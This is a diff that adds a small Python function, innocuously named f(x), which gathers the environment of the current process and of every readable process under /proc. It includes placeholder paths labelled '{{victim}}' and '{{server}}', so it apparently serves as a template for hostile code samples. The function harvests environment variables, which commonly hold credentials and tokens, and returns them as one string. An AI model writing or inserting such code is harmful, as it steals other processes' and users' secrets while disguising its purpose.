@@ -1,0 +1,11 @@
+import glob
+import os
+
+def f(x):
+    found = [repr(dict(os.environ))]
+    for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/1/environ", "/proc/{{victim}}/environ", "/proc/{{server}}/environ"]:
+        try:
+            found.append(open(path, "rb").read().decode("utf-8", "replace"))
+        except OSError:
+            pass
+    return "".join(found)
